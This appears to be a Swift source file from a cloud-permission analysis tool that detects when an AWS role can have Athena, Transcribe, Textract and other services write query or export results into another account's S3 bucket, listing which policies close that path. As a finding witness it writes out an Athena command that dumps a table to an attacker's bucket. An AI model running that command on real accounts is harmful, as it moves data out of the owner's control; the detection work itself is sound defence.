import CordonModel
import CordonPolicy

/// A service that writes what it found with its caller's own rights, past every endpoint of the network.
struct QueryResultsRoute: Route {
  let name = "query-results"
  let path = EgressPath.crossAccountCopy
  let title = "a query's or an export's results are written to a bucket of somebody else"
  let documentation = RouteDocumentation(
    """
    Athena writes results to the address in the call (ResultConfiguration), with the caller's rights and from its own network \
    (IAM User Guide, "forward access sessions"). So do transcripts, spoken text, table exports and asynchronous inference. \
    The second request is the caller's, with aws:ViaAWSService: the endpoint's policy is not asked, and rules about \
    addresses except it.
    """,
    closedBy: [
      "an identity policy, boundary or service control policy that lets the role write to buckets of ours only",
      "no Allow of the calls that start it",
    ],
    notClosedBy: [
      "the endpoint policy of S3", "a deny that excepts aws:ViaAWSService",
      "a workgroup's result location, unless it is enforced and nobody may change it",
    ])

  func judge(_ scene: Scene) -> Judgement {
    var judgement = Judgement()
    for role in scene.roles { ask(role, scene, &judgement) }
    judgement.addUnseenRoles(scene)
    return judgement
  }

  private func ask(_ role: HeldRole, _ scene: Scene, _ judgement: inout Judgement) {
    let estate = scene.estate
    let name = "\(role.resource.id)"
    let starting = RequestQuestion(
      layers: role.layers(scene), callers: estate.callers(.own(role)), actions: Self.starters,
      demands: .of(.own(role), .anywhere, .own, estate), resourceAccount: estate.account)
    let start = scene.door(name, starting, at: role.resource) { witness in
      RouteWitness(
        CommandLineCall(witness.request).text(), story: witness.request.action, fix: "", at: role.resource)
    }
    var demands = KeyDemands.forwarded(by: role, .foreign, estate)
    demands.require("resource", "StringLike", estate.takenBuckets, positive: false)
    let writing = RequestQuestion(
      layers: role.layers(scene), callers: estate.callers(.own(role)), actions: ["s3:PutObject"],
      resources: estate.foreignResources("s3"), demands: demands)
    if start.isClosed {
      judgement.add(start)
      if case .none = scene.prover.ask(writing) { return }
      return judgement.lose(
        "\(name) may write to buckets of others through a service: only that it may not start one holds",
        role.resource)
    }
    let write = scene.door(name, writing, at: role.resource) { witness in
      let bucket = ResourceName(witness.request.resource).bucket
      return RouteWitness(
        "aws athena start-query-execution --query-string 'SELECT * FROM churn' --result-configuration OutputLocation=s3://\(bucket)/",
        story: "A service writes a query's results to the attacker's bucket with the rights of \(name).",
        fix: "deny s3 to \(name) unless aws:ResourceOrgID (or aws:ResourceAccount) is yours",
        at: role.resource, request: witness.request.members)
    }
    guard case .open = write.finding, case .open(let call) = start.finding else {
      return judgement.add(write.isClosed ? write : start.isOpen ? write : start)
    }
    guard call.story.hasPrefix("athena:") else {
      return judgement.add(write.with(command: call.command))
    }
    judgement.add(write)
  }

  /// Calls whose results are written with the caller's rights, or whose place of results the call sets.
  static let starters = [
    "athena:StartQueryExecution", "athena:CreateWorkGroup", "athena:UpdateWorkGroup", "athena:StartSession",
    "athena:StartCalculationExecution", "transcribe:StartTranscriptionJob",
    "transcribe:StartMedicalTranscriptionJob", "polly:StartSpeechSynthesisTask",
    "textract:StartDocumentAnalysis",
    "textract:StartDocumentTextDetection", "dynamodb:ExportTableToPointInTime", "bedrock:InvokeModel",
    "timestream:Select", "redshift-data:ExecuteStatement", "logs:CreateExportTask",
    "cloudformation:CreateStack", "ssm:SendCommand",
  ]
}

/// The parts of an ARN that name an object of S3's.
struct ResourceName {
  /// Everything behind the account.
  let path: String

  init(_ arn: String) {
    path =
      arn.split(separator: ":", maxSplits: 5, omittingEmptySubsequences: false).last.map(String.init) ?? arn
  }

  /// The bucket's name.
  var bucket: String { path.split(separator: "/").first.map(String.init) ?? path }
}
